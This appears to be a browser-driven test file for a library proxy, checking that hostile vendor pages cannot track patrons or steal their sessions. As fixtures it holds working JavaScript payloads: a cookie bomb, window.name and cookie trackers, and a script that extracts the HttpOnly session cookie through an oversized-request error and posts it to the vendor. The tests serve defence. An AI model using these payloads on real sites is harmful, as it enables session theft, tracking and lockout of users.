"""From a review of a vendor that tries to learn who the patron is, with the patron's browser as
its tool (P1, P4, P7).

Real Chromium, real slapd, recording vendors serving hostile pages through the proxy, signed in
through the real form. Each of the review's tests failed on the code it was written against;
one stays a strict xfail (a script cookie with a path, which sign-out cannot name). Then the
edges of the fixes: the fixed page for each refused request, a vendor granted the microphone,
a permission no database may be granted, the host-only cookies a vendor keeps for itself.
"""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from playwright.async_api import Error, Page, async_playwright

from proxy.web.messages import UI
from tests.browser_support import CHROMIUM, CHROMIUM_ARGS
from tests.fixtures_ldap import generic_password, generic_uid
from tests.harness import ldap_directory, sign_in_through_form, vendor_toml, write_config

A = "www.vendor-a.test"
B = "www.vendor-b.test"


def _route(text: str, extra: dict[str, str] | None = None) -> Any:
    async def handler(request: web.Request) -> web.StreamResponse:
        return web.Response(
            body=text.encode(),
            headers={"Content-Type": "text/html; charset=utf-8", **(extra or {})},
        )

    return handler


async def _stack(
    tmp_path: Path, port: int, slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> tuple[Any, Any, Any]:
    va = await vendor_factory(A)
    vb = await vendor_factory(B)
    cfg = write_config(
        tmp_path,
        port=port,
        directory=ldap_directory(slapd, tmp_path),
        vendors={"a": vendor_toml("a", va), "b": vendor_toml("b", vb)},
        extra="\n[throttle]\naddress_limit = 1000\n",
    )
    driver = await proxy_factory(cfg)
    return driver, va, vb


@contextlib.asynccontextmanager
async def _browser_page() -> AsyncIterator[Page]:
    async with async_playwright() as p:
        browser = await p.chromium.launch(
            executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True
        )
        try:
            page = await (await browser.new_context()).new_page()
            yield page
        finally:
            await browser.close()


async def _sign_out(page: Page, own: str) -> None:
    await page.goto(f"{own}/menu")
    async with page.expect_navigation():
        await page.get_by_role("button", name=UI["sign_out"]).click()
    await page.wait_for_timeout(1500)  # the forget images load


async def _text(page: Page) -> str:
    return str(await page.evaluate("() => document.getElementById('out').textContent"))


PLANT_NAME = """<!doctype html><title>a</title><p id="out">x</p>
<script>window.name = "vendor-a-tracking-id-4242";</script>"""
READ = """<!doctype html><title>r</title><p id="out"></p>
<script>document.getElementById("out").textContent = window.name + "|" + document.cookie;</script>"""


async def test_window_name_a_vendor_sets_is_read_by_the_next_patron_after_sign_out(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """Vendor A's script names the tab (`window.name`). Every mapped host and the proxy's own
    pages are one site (subdomains of the public host), so Chromium keeps the name across the
    navigations to the menu, sign-out, the next patron's sign-in and that patron's visit to
    vendor A again or to vendor B: an identifier that links two patrons' sessions at one
    vendor, and one patron's visits to two vendors (P4). Clear-Site-Data does not touch it.
    Should: the name is gone once the patron is on the proxy's own pages (e.g. the proxy's own
    pages send `Cross-Origin-Opener-Policy: same-origin`, which starts a new browsing context
    group and clears the name, or reset it)."""
    driver, va, vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    va.routes["/plant"] = _route(PLANT_NAME)
    va.routes["/read"] = _route(READ)
    vb.routes["/read"] = _route(READ)
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        await page.goto(f"http://{driver.mapped(A)}/plant", wait_until="load")
        # The same patron goes back to the menu and on to another vendor.
        await page.goto(f"{own}/menu")
        await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
        seen_by_b = await _text(page)
        # Sign out; the next patron at the shared computer signs in and opens vendor A.
        await _sign_out(page, own)
        await sign_in_through_form(page, own, generic_uid(3), generic_password(3))
        await page.goto(f"http://{driver.mapped(A)}/read", wait_until="load")
        seen_next_patron = await _text(page)
    assert "vendor-a-tracking-id-4242" not in seen_by_b, "vendor B reads vendor A's id"
    assert "vendor-a-tracking-id-4242" not in seen_next_patron, "the next patron carries it"


PLANT_PATH_COOKIE = """<!doctype html><title>a</title><p id="out">x</p>
<script>document.cookie = "vid=vendor-a-cookie-id-4242; path=/deep; max-age=31536000";
document.getElementById("out").textContent = "planted";</script>"""
READ_DEEP = """<!doctype html><title>r</title><p id="out"></p>
<script>document.getElementById("out").textContent = document.cookie;</script>"""


@pytest.mark.xfail(
    strict=True,
    reason="a script cookie with a Path other than / is not sent to the forget address, so "
    "sign-out cannot name it; Clear-Site-Data 'cookies' would clear the library's other sites "
    "(the registrable domain) and the next sign-in form's own cookie (known gap, "
    "docs/records-and-retention.md 'What stays')",
)
async def test_a_vendor_scripts_cookie_with_a_path_outlives_sign_out_for_the_next_patron(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """A vendor script writes `vid=…; path=/deep; max-age=1 year` on its mapped host. Sign-out's
    forget answers delete only the cookies the browser sent to `/.weston-proxy/forget`, with
    Path=/ (proxy/web/forget.py clear_page_cookies), and a cookie with path /deep is not sent
    there, so it stays; the `Clear-Site-Data` leaves cookies out. The next patron's session at
    the same vendor reads it from `document.cookie` on /deep/…: the vendor links two patrons
    on a shared computer (P4). Should: no cookie a vendor script wrote survives sign-out."""
    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    va.routes["/deep/plant"] = _route(PLANT_PATH_COOKIE)
    va.routes["/deep/read"] = _route(READ_DEEP)
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        await page.goto(f"http://{driver.mapped(A)}/deep/plant", wait_until="load")
        assert await _text(page) == "planted"
        await _sign_out(page, own)
        await sign_in_through_form(page, own, generic_uid(4), generic_password(4))
        await page.goto(f"http://{driver.mapped(A)}/deep/read", wait_until="load")
        seen = await _text(page)
    assert "vendor-a-cookie-id-4242" not in seen, "the next patron's page reads the last one's id"


BOMB = """<!doctype html><title>a</title><p id="out">x</p>
<script>
const big = "b".repeat(3900);
for (let i = 0; i < 6; i++) {
  document.cookie = "bomb" + i + "=" + big + "; domain=proxy.localhost; path=/; max-age=31536000";
}
document.getElementById("out").textContent = String(document.cookie.length);
</script>"""


async def test_a_vendor_cookie_bomb_on_the_proxys_domain_leaves_the_patron_able_to_sign_out(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """A vendor script writes six 3.9 KB cookies for the proxy's own domain. From then on the
    browser's Cookie header (~24 KB) is over the server's header-line limit (8 190) on every
    proxy host: every page, the menu, sign-out and sign-in answer aiohttp's bare
    `400 Bad Request` text, and nothing the proxy could answer clears the cookies. The patron
    cannot sign out (the session stays open on a shared computer for the next person), nor
    can the next patron sign in, for a year (P7: a clear page, and never a session that should
    not go on). Should: sign-out still works (or a page says what is wrong and clears the
    cookies, so the next request works)."""
    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    va.routes["/bomb"] = _route(BOMB)
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        await page.goto(f"http://{driver.mapped(A)}/bomb", wait_until="load")
        assert int(await _text(page)) > 20000, "the cookies were written"
        first = await page.goto(f"{own}/menu")
        first_status = first.status if first is not None else 0
        # That first answer's page removes the script cookies that are too long and loads the
        # menu again; the patron is still signed in (the HttpOnly session cookie is not touched).
        await page.wait_for_timeout(500)
        again = await page.goto(f"{own}/menu")
        status = again.status if again is not None else 0
        body = await page.content()
        assert not any(c["name"].startswith("bomb") for c in await page.context.cookies())
    assert status == 200 and UI["sign_out"] in body, (
        f"menu after a vendor's cookie bomb: first {first_status}, then {status}: {body[:200]!r}"
    )


async def test_the_answer_to_an_oversized_request_is_the_proxys_fixed_page(
    tmp_path: Path,
    port: int,
    running_slapd: Any,
    vendor_factory: Any,
    proxy_factory: Any,
) -> None:
    """Over a raw socket: a Cookie header over the limit gets 431, a request line over it 414,
    both with the page whose script repairs a cookie bomb (allowed by its hash alone), a
    malformed header 400; each a fixed page (no byte of the request in it) with the proxy's own
    page headers, none clearing site data, and one log line each naming the status."""
    import asyncio

    from structlog.testing import capture_logs

    driver, _va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    host, port_ = driver.public.rsplit(":", 1)
    secret = "canary-cookie-value-7391"
    cases = [
        (
            b"GET / HTTP/1.1\r\nHost: %s\r\nCookie: c=" % host.encode()
            + (secret * 600).encode()
            + b"\r\n\r\n",
            431,
        ),
        (b"GET /" + (secret * 600).encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n", 414),
        (b"GET / HTTP/1.1\r\nHost: x\r\nBad Header" + secret.encode() + b": 1\r\n\r\n", 400),
    ]
    with capture_logs() as logs:
        for raw, want in cases:
            reader, writer = await asyncio.open_connection("127.0.0.1", int(port_))
            writer.write(raw)
            await writer.drain()
            answer = await reader.read(65536)
            writer.close()
            head, _, body = answer.partition(b"\r\n\r\n")
            assert head.startswith(b"HTTP/1.1 %d " % want) or head.startswith(
                b"HTTP/1.0 %d " % want
            ), head[:80]
            assert secret.encode() not in answer and b"<h1>" in body
            assert b'<a href="http://%s/login">' % driver.public.encode() in body
            assert b"frame-ancestors 'none'" in head and b"no-store" in head
            assert b"Clear-Site-Data" not in head
            assert (b'id="repaired"' in body) == (want != 400)
            assert (b"script-src 'sha256-" in head) == (want != 400)
    assert secret not in repr(logs)
    assert {e.get("status") for e in logs if e.get("event") == "request_refused"} == {
        431,
        414,
        400,
    }


GEO = """<!doctype html><title>a</title><p id="out"></p>
<script>
const fp = document.featurePolicy || document.permissionsPolicy;
const allowed = ["geolocation", "camera", "microphone", "clipboard-read"].filter(
  f => fp && fp.allowsFeature(f));
document.getElementById("out").textContent = allowed.join(",");
</script>"""


async def test_a_vendor_page_may_ask_the_patron_for_location_camera_and_microphone(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """Found by the review: proxied vendor pages got no Permissions-Policy from the proxy (only
    its own pages carried one), and a vendor's own passed through unchanged. A vendor script's `navigator.geolocation.getCurrentPosition()` or `getUserMedia()` then
    prompts under the library's mapped host name, which a patron trusting the library grants;
    the grant is kept per origin in the browser, so on a shared computer the next patron's
    session at that vendor gets the position with no prompt at all (sign-out's Clear-Site-Data
    does not reset permissions). No licensed database needs these: the proxy now stops them
    (`proxy/permissions.py`: `geolocation=(), camera=(), microphone=(), …` on every relayed
    page, in place of a vendor's `geolocation=*`)."""
    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    va.routes["/geo"] = _route(GEO, {"Permissions-Policy": "geolocation=*, camera=*"})
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        resp = await page.goto(f"http://{driver.mapped(A)}/geo", wait_until="load")
        assert resp is not None and resp.status == 200
        allowed = await _text(page)
    assert allowed == "", f"a vendor page may use: {allowed}"


STEAL = """<!doctype html><title>a</title><p id="out">x</p>
<script>
(async () => {
  const big = "b".repeat(3900);
  for (let i = 0; i < 6; i++) {
    document.cookie = "bomb" + i + "=" + big + "; domain=proxy.localhost; path=/";
  }
  const r = await fetch("/probe", {credentials: "include"});
  const text = await r.text();
  document.getElementById("out").textContent = "read " + r.status + " " + text;
  for (let i = 0; i < 6; i++) {
    document.cookie = "bomb" + i + "=; domain=proxy.localhost; path=/; max-age=0";
  }
  await fetch("/report", {method: "POST", body: text});
})();
</script>"""


async def test_a_vendor_script_reads_the_httponly_session_cookie_through_an_oversized_request(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """The proxy's session cookie is HttpOnly so vendor scripts cannot read it. But a vendor
    script can make the browser's Cookie header too long (cookies on the proxy's domain), then
    fetch() its own mapped host: the server's 400 answer (aiohttp's parser error, sent as the
    proxy's answer) quotes the start of the over-long header line in its body, `Got more than
    8190 bytes when reading: b'weston_session=<id>…`, and a same-origin fetch may read it. The
    script removes its cookies and posts the text to its vendor: the vendor has the patron's
    proxy session id (P1 names it: "no … proxy session id or proxy cookie"), a stable
    identifier across every vendor the patron uses (P4), and a bearer credential to the
    patron's session. Should: the answer to an oversized request never echoes what the client
    sent."""
    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    va.routes["/steal"] = _route(STEAL)
    own = f"http://{driver.public}"
    name = driver.config.server.cookie_name
    async with async_playwright() as p:
        browser = await p.chromium.launch(
            executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True
        )
        try:
            context = await browser.new_context()
            page = await context.new_page()
            await sign_in_through_form(page, own)
            sid = next(c["value"] for c in await context.cookies() if c["name"] == name)
            await page.goto(f"http://{driver.mapped(A)}/steal", wait_until="load")
            with contextlib.suppress(Error):
                await page.wait_for_function(
                    "() => document.getElementById('out').textContent.startsWith('read')",
                    timeout=8000,
                )
            read = await _text(page)
            await page.wait_for_timeout(500)  # the report, if the proxy still lets it through
        finally:
            await browser.close()
    # What the script could read: the proxy's fixed 431 page, nothing of the request.
    assert read.startswith("read 431 "), read[:300]
    assert sid not in read and "bbbb" not in read, read[:300]
    reports = [r for r in va.requests if r.path_qs.startswith("/report")]
    assert all(sid.encode() not in r.body for r in reports)


PLANT_PARENT = """<!doctype html><title>a</title><p id="out">x</p>
<script>document.cookie = "xid=vendor-a-shared-id-4242; domain=proxy.localhost; path=/";
document.getElementById("out").textContent = "planted";</script>"""


async def test_a_cookie_vendor_a_writes_on_the_proxys_domain_is_read_by_vendor_b(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """Vendor A's script writes `xid=…; domain=<public host>`; every mapped host is under the
    public host, so the browser sends it to vendor B's mapped host too and B's script reads it
    from `document.cookie`: vendor B (or a script both embed) links the patron's visits to A
    and B (P4). The proxy sees the cookie arrive on every request to B's host (it never
    forwards it) and could delete it there, as its forget answer does at sign-out; it lives
    on for the whole session. Should: a cookie one vendor's page writes on the proxy's
    domain is not readable by another vendor's page."""
    driver, va, vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    va.routes["/plant"] = _route(PLANT_PARENT)
    vb.routes["/read"] = _route(READ)
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        await page.goto(f"http://{driver.mapped(A)}/plant", wait_until="load")
        assert await _text(page) == "planted"
        await page.goto(f"{own}/menu")
        await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
        await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
        seen = await _text(page)
    assert "vendor-a-shared-id-4242" not in seen, f"vendor B's page reads: {seen!r}"


async def test_a_vendor_granted_the_microphone_may_ask_for_it_and_nothing_else(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """`permissions = ["microphone"]` (pronunciation practice): that vendor's pages may ask for
    the microphone, still not for the position or the camera; another vendor's may not ask for
    the microphone. An untyped page the browser sniffs gets the policy too."""
    va = await vendor_factory(A)
    vb = await vendor_factory(B)
    cfg = write_config(
        tmp_path,
        port=port,
        directory=ldap_directory(running_slapd, tmp_path),
        vendors={
            "a": vendor_toml("a", va, extra='permissions = ["microphone"]\n'),
            "b": vendor_toml("b", vb),
        },
    )
    driver = await proxy_factory(cfg)
    probe = GEO.replace('"clipboard-read"]', '"clipboard-read", "usb", "browsing-topics"]')
    va.routes["/geo"] = _route(probe)
    vb.routes["/geo"] = _route(probe)

    async def untyped(request: web.Request) -> web.StreamResponse:
        # "unknown/unknown": a browser sniffs it (as HTML here), as a body with no type.
        return web.Response(body=probe.encode(), headers={"Content-Type": "unknown/unknown"})

    vb.routes["/sniffed"] = untyped
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        await page.goto(f"http://{driver.mapped(A)}/geo", wait_until="load")
        at_a = await _text(page)
        await page.goto(f"http://{driver.mapped(B)}/geo", wait_until="load")
        at_b = await _text(page)
    assert at_a == "microphone" and at_b == "", (at_a, at_b)
    assert (await driver.login(generic_uid(5), generic_password(5))).status == 303
    r = await driver.get_vendor(B, "/sniffed")
    assert "geolocation=()" in r.headers.get("Permissions-Policy", ""), dict(r.headers)


def test_a_permission_no_database_may_be_granted_is_refused_naming_file_and_key(
    tmp_path: Path,
) -> None:
    """An advertising feature, or a misspelt one, in `permissions` is a config mistake."""
    from tests.test_check_config_cross import check, vendor

    code, problems = check(
        tmp_path,
        {
            "films": vendor(
                "films",
                "www.films.test",
                ["www.films.test"],
                'permissions = ["microphone", "browsing-topics", "geolocaton"]\n',
            )
        },
    )
    out = "\n".join(problems)
    assert code == 1, out
    assert "films.toml: permissions[1]: 'browsing-topics' cannot be granted" in out
    assert "films.toml: permissions[2]: 'geolocaton' cannot be granted" in out
    assert "permissions[0]" not in out


PLANT_OWN = """<!doctype html><title>b</title><p id="out">x</p>
<script>document.cookie = "prefs=wide-sidebar; path=/";
document.getElementById("out").textContent = "planted";</script>"""


async def test_the_cookies_a_vendors_script_keeps_on_its_own_host_stay(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """What the deletion of shared-domain cookies must not touch: a vendor script's host-only
    cookie (a preference) is still there on its next page loads; the proxy's own session
    cookie too (the patron is still signed in)."""
    driver, _va, vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
    vb.routes["/plant"] = _route(PLANT_OWN)
    vb.routes["/read"] = _route(READ)
    own = f"http://{driver.public}"
    async with _browser_page() as page:
        await sign_in_through_form(page, own)
        await page.goto(f"http://{driver.mapped(B)}/plant", wait_until="load")
        assert await _text(page) == "planted"
        for _ in range(2):
            resp = await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
            assert resp is not None and resp.status == 200
            assert "prefs=wide-sidebar" in await _text(page)


def test_shared_cookie_deletions_name_the_parent_domains_only() -> None:
    """Down to the public host and no further (the library's other sites keep theirs above
    it); never the mapped host itself; the proxy's own names kept; no value written back."""
    from proxy.page_cookies import shared_cookie_deletions, shared_domains

    assert shared_domains("www-a-test.proxy.lib.org", "proxy.lib.org") == ("proxy.lib.org",)
    assert shared_domains("proxy.lib.org", "proxy.lib.org") == ()
    lines = shared_cookie_deletions(
        "weston_session=s3cret; xid=tracker-value; a=1",
        "www-a-test.proxy.lib.org",
        "proxy.lib.org",
        frozenset({"weston_session"}),
        True,
    )
    assert lines == [
        "xid=; Max-Age=0; Path=/; Secure; Domain=proxy.lib.org",
        "a=; Max-Age=0; Path=/; Secure; Domain=proxy.lib.org",
    ]


async def test_a_granted_permission_is_told_to_patrons_and_to_privacy_staff(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> None:
    """A vendor granted the microphone: its /privacy row tells patrons in words (not feature
    names), and the compliance report warns (config.permissions), without failing the vendor;
    a vendor with none passes the check and its row says nothing of it."""
    import datetime as dt
    import html as html_lib

    from proxy.compliance import FAIL, PASS, WARNING, check_vendor, compliance_settings
    from proxy.config import load_config

    va = await vendor_factory(A)
    vb = await vendor_factory(B)
    contract = (
        '\n[contract]\nprivacy_policy_url = "https://a.example/privacy"\n'
        "reviewed = 2026-06-01\nexpires = 2099-01-01\nretention_days = 30\n"
    )
    cfg = write_config(
        tmp_path,
        port=port,
        directory=ldap_directory(running_slapd, tmp_path),
        vendors={
            "a": vendor_toml(
                "a", va, title="Speak Easy", extra='permissions = ["microphone"]\n' + contract
            ),
            "b": vendor_toml("b", vb, title="Plain Journals", extra=contract),
        },
    )
    driver = await proxy_factory(cfg)
    page = html_lib.unescape(await (await driver.own("GET", "/privacy")).text())
    row_a = page[page.index("Speak Easy") :].split("</tr>")[0]
    row_b = page[page.index("Plain Journals") :].split("</tr>")[0]
    assert "permission to use your microphone" in row_a, row_a
    assert "permission" not in row_b, row_b
    config = load_config(cfg)
    settings = compliance_settings(config)
    today = dt.date.today()
    a = check_vendor(config.vendor("a"), config, settings, today=today)
    (c,) = [c for c in a.checks if c.id == "config.permissions"]
    assert (c.severity, c.result) == (WARNING, FAIL) and "microphone" in c.evidence
    b = check_vendor(config.vendor("b"), config, settings, today=today)
    (c,) = [c for c in b.checks if c.id == "config.permissions"]
    assert c.result == PASS
    # The two vendors differ only in the warning, which changes no verdict.
    failing = [{c.id for c in r.checks if c.result == FAIL} for r in (a, b)]
    assert failing[0] - {"config.permissions"} == failing[1]
    assert a.verdict == b.verdict, (a.verdict, b.verdict)
